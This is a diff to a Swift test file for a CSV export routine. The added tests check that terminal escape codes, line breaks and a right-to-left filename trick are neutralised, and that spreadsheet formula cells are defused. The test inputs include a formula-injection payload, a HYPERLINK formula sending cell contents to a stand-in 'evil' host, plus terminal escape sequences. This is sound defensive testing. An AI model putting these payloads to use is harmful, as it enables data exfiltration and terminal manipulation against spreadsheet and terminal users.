@@ -44,21 +44,41 @@ import Testing
 
   @Test func aRowOfCSVHasAnEmptyCellForNull() {
     #expect(
-      lines([Row(text: "x", flag: true, number: 1, digits: "2"), Row()], .csv(cleaned: false)) == [
+      lines([Row(text: "x", flag: true, number: 1, digits: "2"), Row()], .csv(raw: false)) == [
         "x,true,1,2", ",,,",
       ])
   }
 
-  @Test func csvForATerminalIsCleaned() {
-    #expect(lines([Row(text: "\u{1B}[2J")], .csv(cleaned: true)) == ["\u{FFFD}[2J,,,"])
-    #expect(lines([Row(text: "\u{1B}[2J")], .csv(cleaned: false)) == ["\u{1B}[2J,,,"])
+  /// Whatever the output is: what is taken out of a file ends on a terminal, too.
+  @Test(arguments: [
+    ("\u{1B}[2J", "\u{FFFD}[2J"), ("\u{1B}]0;owned\u{7}", "\u{FFFD}]0;owned\u{FFFD}"),
+    ("two\nlines", "two\u{FFFD}lines"), ("a\rb", "a\u{FFFD}b"), ("a\r\nb", "a\u{FFFD}\u{FFFD}b"),
+    ("\u{85}\u{2028}\u{2029}", "\u{FFFD}\u{FFFD}\u{FFFD}"), ("\u{202E}gpj.exe", "\u{FFFD}gpj.exe"),
+  ])
+  func csvIsCleaned(cell: String, cleaned: String) {
+    for raw in [true, false] { #expect(lines([Row(text: cell)], .csv(raw: raw)) == [cleaned + ",,,"]) }
+  }
+
+  @Test(arguments: [
+    ("=1+1", "'=1+1"), ("+49", "'+49"), ("-x", "'-x"), ("@bob.test", "'@bob.test"), ("＝1", "'＝1"),
+    (#"=HYPERLINK("https://evil/?"&A2,"x")"#, #""'=HYPERLINK(""https://evil/?""&A2,""x"")""#),
+    ("\t=1", "'\u{FFFD}=1"), ("\r=1", "'\u{FFFD}=1"), ("a=1", "a=1"), ("bob.test", "bob.test"),
+  ])
+  func cellsThatASpreadsheetWouldRunAreDefused(cell: String, defused: String) {
+    #expect(lines([Row(text: cell)], .csv(raw: false)) == [defused + ",,,"])
+    let raw = defused.replacing("'", with: "", maxReplacements: 1)
+    #expect(lines([Row(text: cell)], .csv(raw: true)) == [raw + ",,,"])
+  }
+
+  @Test func numbersOfOurOwnStayNumbersInCSV() {
+    #expect(lines([Row(number: -7, digits: "-0.250")], .csv(raw: false)) == [",,-7,-0.250"])
   }
 
   @Test(arguments: [
     ("plain", "plain"), ("", ""), ("a,b", "\"a,b\""), ("say \"hi\"", "\"say \"\"hi\"\"\""),
-    ("two\nlines", "\"two\nlines\""), ("a\rb", "\"a\rb\""), ("a;b", "a;b"), ("朱迪,", "\"朱迪,\""),
+    ("a;b", "a;b"), ("朱迪,", "\"朱迪,\""),
   ])
   func csvQuotesOnlyWhatNeedsIt(cell: String, quoted: String) {
-    #expect(lines([Row(text: cell)], .csv(cleaned: false)) == [quoted + ",,,"])
+    #expect(lines([Row(text: cell)], .csv(raw: false)) == [quoted + ",,,"])
   }
 }
